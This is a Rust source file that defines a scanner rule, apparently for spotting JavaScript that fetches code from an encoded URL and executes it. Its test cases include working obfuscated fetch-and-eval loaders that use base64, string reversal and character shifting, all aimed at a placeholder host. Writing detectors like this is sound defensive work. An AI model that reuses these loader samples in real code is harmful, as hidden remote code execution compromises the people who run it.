//! `answer-of-coded-address-run`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "answer-of-coded-address-run",
    description: "The script fetches code from an encoded URL and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::CodedAnswerRun, Atom::CodedAsked]),
        one(&[Atom::CodedAnswerRun, Atom::RemoteRun, Atom::AnswerHanded]),
    ],
    within: 120,
    only_if: Some(is_run),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch(atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>eval(t))"#,
            r#"var x=new XMLHttpRequest;x.open('GET','sj.a/elpmaxe.tsoh-dedoc//:sptth'.split('').reverse().join(''));x.onload=function(){Function(x.responseText)()};x.send()"#,
            r#"(function(w,run){var d=s=>s.replace(/./g,c=>String.fromCharCode(c.charCodeAt(0)-3)),x=new XMLHttpRequest;x.open('GET',d('kwwsv=22frghg0krvw1h{dpsoh2d'));x.onload=function(){run(x.responseText)};x.send()})(window,function(s){return Function(s)()})"#,
        ],
        without: &[
            r#"fetch('https://coded-host.example/a').then(r=>r.text()).then(t=>eval(t))"#,
            r#"fetch(atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>{box.textContent=t})"#,
        ],
    },
};

/// Whether the answer is run there, or handed to a function beside one that runs texts.
fn is_run(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    near.has_fact(&[Atom::CodedAnswerRun, Atom::RemoteRun])
        || near.has_fact(&[Atom::AnswerHanded]) && near.has_fact(&[Atom::FunctionOfText, Atom::ValueRun])
}

/// Items between the answer and the function that runs it.
const AROUND: usize = 30;
